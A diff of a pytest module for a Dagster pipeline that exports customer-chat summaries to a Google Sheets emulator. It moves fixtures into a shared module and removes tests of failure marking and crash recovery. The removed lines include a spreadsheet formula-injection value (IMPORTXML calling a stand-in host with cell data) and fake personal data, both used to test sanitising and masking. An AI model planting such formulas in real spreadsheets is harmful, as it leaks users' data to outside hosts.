@@ -1,96 +1,37 @@
-"""The spreadsheet at the end of the walk: what people read there, and that a failure leaves it as it was, marked."""
+"""The spreadsheet at the end of the walk: what people read there."""
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
 from datetime import date, datetime, timedelta
 from pathlib import Path
-from typing import Any
 
 import dagster as dg
 import pytest
 
 from assets.checks import exports as checks
-from assets.marts.dbt import Built, TestResult
-from assets.marts.description import marts
 from orchestration import runner
-from orchestration.definitions import defs
 from resources.warehouse.engine import Warehouse
-from resources.warehouse.exports import destination_of, exporting
+from resources.warehouse.exports import destination_of
 from resources.warehouse.hashes import table_hashes
-from tests.emulators.retailcrm import RetailCRMEmulator
 from tests.emulators.sheets import SPREADSHEET_ID, SheetsEmulator
-from tests.emulators.shop.model import Shop
-from tests.pipeline.conftest import environment
-from tests.pipeline.publisher import Publisher
+from tests.pipeline.exporting import (
+    FORMULA,
+    MASKED,
+    MONDAY,
+    TABS,
+    TITLE,
+    WEEK,
+    account,
+    published,
+    reading,
+    sheets,
+    show,
+    spreadsheet,
+    table,
+)
 
-MONDAY = date(2026, 11, 16)
-WEEK, TITLE = "2026-W46", "2026-W46 (09.11–15.11)"
-TABS = ["manager_summary", "channel_summary", "chats_raw", "messages_raw"]
-KEYS = [dg.AssetKey(["exports", f"google_sheets__{tab}"]) for tab in (*TABS, "data_status")]
-FORMULA = '=IMPORTXML("http://example.invalid/?"&A1)'
-SECRET = "Мой номер 8 (926) 123-45-67, почта anna@example.ru, карта 4111 1111 1111 1111; заказ 1234567 на 12 990 ₽"
-MASKED = "Мой номер [телефон], почта [почта], карта [карта]; заказ 1234567 на 12 990 ₽"
-
-
-QUIET = {"loggers": {"console": {"config": {"log_level": "CRITICAL"}}}}
-
-
-@pytest.fixture(scope="module")
-def account() -> Iterator[RetailCRMEmulator]:
-    """A small shop in which a customer writes what must not leave as it is."""
-    shop = Shop.tiny(3, MONDAY)
-    customers = sorted(one.id for one in shop.messages if one.sender == "customer")
-    shop.edit_message(customers[0], SECRET)
-    shop.edit_message(customers[1], FORMULA)
-    with RetailCRMEmulator(shop, rate=None) as emulator:
-        yield emulator
-
-
-@pytest.fixture(scope="module")
-def sheets() -> Iterator[SheetsEmulator]:
-    with SheetsEmulator(quota=None, large="allow") as emulator:
-        yield emulator
-
-
-@pytest.fixture(scope="module", autouse=True)
-def spreadsheet(connected: Warehouse, sheets: SheetsEmulator) -> Iterator[None]:
-    """The environment of an installation that writes a spreadsheet."""
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setenv("GOOGLE_SHEETS_ID", sheets.spreadsheet_id)
-        patch.setenv("GOOGLE_SERVICE_ACCOUNT_JSON", str(sheets.service_account_file))
-        patch.setenv("SHEETS_BASE_URL", sheets.base_url)
-        patch.setenv("SHEETS_REQUESTS_PER_MINUTE", "1000")
-        yield
-
-
-@pytest.fixture(scope="module")
-def published(connected: Warehouse, instance: dg.DagsterInstance) -> list[runner.RunSummary]:
-    return runner.run_weeks(WEEK, WEEK, instance=instance)
-
-
-def show(instance: dg.DagsterInstance, *, rewrite: bool = False) -> dg.ExecuteInProcessResult:
-    """Only the spreadsheet, from the marts that are there."""
-    config = {**QUIET, "ops": {"exports_sheets": {"config": {"rewrite": rewrite}}}}
-    return defs.resolve_job_def("publish_week").execute_in_process(
-        instance=instance, asset_selection=KEYS, raise_on_error=False, run_config=config
-    )
-
-
-def table(sheets: SheetsEmulator, tab: str) -> list[dict[str, Any]]:
-    heading, *rows = sheets.values(f"{tab}!A1:Z")
-    return [dict(zip(heading, row + [""] * (len(heading) - len(row)), strict=True)) for row in rows]
-
-
-def reading(sheets: SheetsEmulator) -> dict[str, list[list[Any]]]:
-    return {tab: sheets.values(f"{tab}!A1:Z") for tab in TABS}
-
-
-def problem(result: dg.ExecuteInProcessResult) -> str:
-    (event,) = [event for event in result.all_events if event.is_step_failure]
-    failure = event.step_failure_data
-    return str(failure.user_failure_data.description if failure.user_failure_data else failure.error)
+__all__ = ["account", "published", "sheets", "spreadsheet"]
 
 
 def test_the_tabs_are_there_in_their_order_and_nothing_else(
@@ -203,99 +144,6 @@ def test_the_same_again_asks_nothing_and_changes_nothing(
     assert sheets.sheets()["manager_summary"]["sheetId"] == tab
 
 
-def test_a_check_that_fails_or_raises_shows_nothing_but_the_mark(
-    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:  # fmt: skip
-    def raises(_: checks.Shown) -> int:
-        raise KeyError("a cell of somebody's")
-
-    one, other, *others = checks.RULES
-    before = reading(sheets)
-    with connected.connect() as sql:
-        sql.execute("update marts.manager_week set pending_now = pending_now + 7")
-    wrong = (checks.TabRule(one.tab, one.rule, raises), checks.TabRule(other.tab, other.rule, lambda _: 3))
-    with monkeypatch.context() as broken:
-        broken.setattr(checks, "RULES", (*wrong, *others))
-        result = show(instance)
-    assert not result.success
-    assert one.rule.name in problem(result) and other.rule.name in problem(result)
-    judged = {check.check_name: check for check in result.get_asset_check_evaluations()}
-    assert {name for name, check in judged.items() if not check.passed} == {one.rule.name, other.rule.name}
-    assert "somebody" not in str(list(result.all_events))
-    assert reading(sheets) == before
-    rows = table(sheets, "data_status")
-    assert [row["Вкладка"] for row in rows] == TABS
-    assert all(row["Устарело"].startswith("да, с ") and one.rule.name in row["Почему"] for row in rows)
-    with connected.connect() as sql:
-        kept = sql.execute("select distinct stale_since, stale_reason from ops.exports where tab = any(%s)", [TABS])
-        ((since, reason),) = kept.fetchall()
-        assert since is not None and one.rule.name in reason
-        sql.execute("update marts.manager_week set pending_now = pending_now - 7")
-    assert show(instance).success
-    assert reading(sheets) == before
-    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}
-
-
-def test_a_week_that_cannot_be_published_leaves_the_sheet_and_marks_it(
-    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:  # fmt: skip
-    def status() -> list[tuple[bool, str]]:
-        return [(row["Устарело"].startswith("да"), row["Почему"]) for row in table(sheets, "data_status")]
-
-    before, test = reading(sheets), marts()[0].tests[0].name
-    judged = Built({}, (TestResult(test, marts()[0].name, False, 2, ""),))
-    with monkeypatch.context() as failing:
-        failing.setattr("assets.marts.weeks.build", lambda *_: judged)
-        with pytest.raises(runner.RunFailed, match="was not published"):
-            runner.publish_weeks(WEEK, WEEK, instance=instance)
-    assert reading(sheets) == before
-    words = f"{WEEK}: новые данные не прошли проверку, показаны прежние ({test})"
-    assert status() == [(True, words)] * 4
-    # shown again as it is, the week is still not the newest that was wanted
-    assert show(instance).success
-    assert status() == [(True, "новая версия недели не прошла проверку, показана прежняя")] * 4
-    with connected.connect() as sql:
-        sql.execute("update marts.data_status set is_stale = false")
-    assert show(instance).success
-    assert reading(sheets) == before
-    assert status() == [(False, "")] * 4
-
-
-def test_a_refused_account_is_named_and_the_mark_waits_until_somebody_gets_there(
-    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance
-) -> None:
-    def health() -> Any:
-        with connected.connect() as sql:
-            return sql.execute("select status, reason from ops.connections where vendor = 'sheets'").fetchone()
-
-    before = reading(sheets)
-    sheets.share(None)
-    try:
-        assert not show(instance, rewrite=True).success
-        assert health()[0] == "needs_auth" and health()[1]
-        with connected.connect() as sql:
-            stale = sql.execute("select count(stale_since) from ops.exports where tab = any(%s)", [TABS]).fetchone()
-        assert stale == (4,)
-    finally:
-        sheets.share("writer")
-    assert reading(sheets) == before
-    assert show(instance).success
-    assert health() == ("ok", None)
-    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}
-
-
-def test_another_writer_is_waited_for_by_nobody_and_makes_nothing_stale(
-    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance
-) -> None:
-    before = sheets.visible()
-    with exporting(connected, destination_of(SPREADSHEET_ID)):
-        result = show(instance, rewrite=True)
-    assert not result.success and problem(result).startswith("busy: ")
-    assert sheets.visible() == before
-
-
 def test_without_a_spreadsheet_the_run_is_green_and_says_so(
     published: list[runner.RunSummary], sheets: SheetsEmulator, instance: dg.DagsterInstance,
     monkeypatch: pytest.MonkeyPatch,
@@ -330,34 +178,3 @@ def test_what_does_not_fit_is_left_out_and_said(
     assert left["manager_summary"] == ""
     assert show(instance).success
     assert reading(sheets) == before
-
-
-@pytest.fixture
-def killed(published: list[runner.RunSummary]) -> Iterator[Publisher]:
-    with Publisher(environment()) as publisher:
-        yield publisher
-
-
-def test_a_kill_between_the_spreadsheet_and_the_books_is_healed_by_the_next_run(
-    killed: Publisher, sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance
-) -> None:
-    def books() -> list[Any]:
-        with connected.connect() as sql:
-            return sql.execute("select tab, content_hash, weeks from ops.exports order by tab").fetchall()
-
-    before, kept = reading(sheets), books()
-    for point, texts in (("exports.announced", "full"), ("exports.shown", "full"), ("exports.before_commit", "none")):
-        assert killed(point, texts) == -9
-        shown = reading(sheets)
-        assert (shown == before) is (point == "exports.announced"), "what is shown is whole: all old or all new"
-        assert (SECRET in str(shown)) is (point == "exports.shown")
-        # what the policy shows now is what the books knew before the kill: they must not believe it is still there
-        assert show(instance).success
-        assert reading(sheets) == before
-        assert books() == kept
-    assert killed("exports.marked", None) == -9
-    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}
-    assert show(instance).success
-    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}
-    with connected.connect() as sql:
-        assert sql.execute("select count(stale_since) from ops.exports").fetchone() == (0,)
